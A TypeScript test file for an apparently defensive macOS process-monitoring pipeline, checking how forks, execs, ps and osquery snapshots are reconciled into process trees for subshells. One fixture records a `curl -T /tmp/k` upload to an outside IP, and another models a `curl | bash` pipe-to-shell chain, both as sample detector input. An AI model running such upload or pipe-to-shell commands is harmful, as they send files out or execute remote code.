/** A subshell mark (forkedOnly) and a fork's inheritance whatever order ES lines, ps and core snapshots arrive in (a review's cases). */
import { describe, expect, it } from 'vitest';
import { SensitivePathMatcher } from '../../../src/classify/sensitive-paths.js';
import { fixedClock } from '../../../src/clock.js';
import { parseConfig } from '../../../src/config/index.js';
import { silentLogger } from '../../../src/log.js';
import { createProcessModel } from '../../process-model/model.js';
import type { ArchiveEventRow, SensitiveFileEventRow } from '../../runtime/context.js';
import { RingBuffer } from '../../runtime/ring-buffer.js';
import { EsloggerPipeline } from './pipeline.js';
import { recordingServices } from './testing/test-context.js';
import { body, esLine } from './testing/es-lines.mjs';

const T = Date.UTC(2026, 2, 3, 9, 51, 40, 284);
const S = Math.floor(T / 1000);
const tty = '/dev/ttys001';
const zsh = { pid: 810, ppid: 805, path: '/bin/zsh', signingId: 'com.apple.zsh', teamId: null, platform: true, startMs: (S - 7198) * 1000, tty };

function session(withShell = true) {
  const processes = createProcessModel({ config: parseConfig({}), clock: fixedClock(S + 10), log: silentLogger() });
  const seen = S - 7200;
  processes.observe({ pid: 800, processStart: seen, ppid: 1, path: '/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal', signingId: 'com.apple.Terminal', teamId: null, platformBinary: true, source: 'ps', seenAt: seen });
  processes.observe({ pid: 805, processStart: seen + 1, ppid: 800, path: '/usr/bin/login', args: ['login', '-pf', 'dana'], tty: true, source: 'ps', seenAt: seen });
  if (withShell) processes.observe({ pid: 810, processStart: seen + 2, ppid: 805, path: '/bin/zsh', args: ['-zsh'], tty: true, source: 'ps', seenAt: seen });
  const pipeline = new EsloggerPipeline({
    matcher: SensitivePathMatcher.fromConfig({ replace_defaults: false, add: [] }), processes, signing: recordingServices().signing,
    sensitiveEvents: new RingBuffer<SensitiveFileEventRow>(100, 1800, (e) => e.time), archiveEvents: new RingBuffer<ArchiveEventRow>(100, 1800, (e) => e.time),
    precursorRetention: { tier1: 43_200, other: 1800 }, now: () => S + 10,
  });
  return { processes, pipeline };
}

describe('forkedOnly', () => {
  it('exec line read before the fork line: a nested `zsh` typed in a `zsh` stays its own root', () => {
    const { processes, pipeline } = session();
    const outer = { ...zsh, pid: 830, ppid: 810, startMs: T - 900 };
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 900, gseq: 1, process: zsh, body: body.exec(outer, ['zsh'], '/Users/dana', 10) }));
    const nested = { ...zsh, pid: 840, ppid: 830, startMs: T - 500 };
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 500, gseq: 3, process: nested, body: body.exec(nested, ['zsh'], '/Users/dana', 10) }));
    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: outer, body: body.fork(nested, 10) }));
    expect(processes.get(840)!.forkedOnly).toBeUndefined();
    expect(processes.group(processes.get(840)!).root.pid).toBe(840);
  });

  it('late fork line whose parent is not in the model leaves the exec\'d image alone', () => {
    const { processes, pipeline } = session(false); // 810 not known yet (extension just started / evicted)
    const child = { ...zsh, pid: 840, ppid: 810, startMs: T - 500 };
    const curl = { ...child, path: '/usr/bin/curl', signingId: 'com.apple.curl' };
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 500, gseq: 3, process: child, body: body.exec(curl, ['curl', '-T', '/tmp/k', 'https://203.0.113.5/'], '/Users/dana', 10) }));
    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: zsh, body: body.fork(child, 10) }));
    expect(processes.get(840)).toMatchObject({ path: '/usr/bin/curl', signingId: 'com.apple.curl', args: ['curl', '-T', '/tmp/k', 'https://203.0.113.5/'] });
    expect(processes.get(840)!.forkedOnly).toBeUndefined();
  });

  it('ps (no core: comm is argv[0]) lists a subshell of `curl … | /opt/homebrew/bin/bash` before its fork line: still fed on the pipe, no root', () => {
    const { processes, pipeline } = session();
    const bash = { ...zsh, pid: 830, ppid: 810, path: '/opt/homebrew/Cellar/bash/5.2.37/bin/bash', signingId: 'bash', startMs: T - 1000 };
    const b = { ...body.exec(bash, ['/opt/homebrew/bin/bash'], '/Users/dana', 10), fds: [{ fd: 0, fdtype: 6 }] };
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: { ...bash, path: '/bin/zsh' }, body: b }));
    processes.observe({ pid: 840, processStart: Math.floor((T - 500) / 1000), ppid: 830, path: '/opt/homebrew/bin/bash', args: ['/opt/homebrew/bin/bash'], uid: 501, source: 'ps', seenAt: S });
    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: bash, body: body.fork({ ...bash, pid: 840, ppid: 830, startMs: T - 500 }, 10) }));
    expect(processes.get(840)!.stdin).toBe('pipe');
    expect(processes.group(processes.get(840)!).root.pid).toBe(810);
  });

  it('exec of a nested `zsh` dropped by ES (global_seq gap): ps shows a new argv and core the same path; it is a shell of its own', () => {
    const { processes, pipeline } = session();
    const nested = { ...zsh, pid: 880, ppid: 810, startMs: T - 200 };
    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 200, gseq: 7, process: zsh, body: body.fork(nested, 10) }));
    // gseq 8 (the exec of /bin/zsh as `zsh`) lost
    processes.observe({ pid: 880, processStart: S, ppid: 810, name: 'zsh', args: ['zsh'], uid: 501, source: 'ps', seenAt: S + 5 });
    processes.observe({ pid: 880, processStart: S, path: '/bin/zsh', source: 'osquery', seenAt: S + 5 });
    expect(processes.group(processes.get(880)!).root.pid).toBe(880);
  });
});
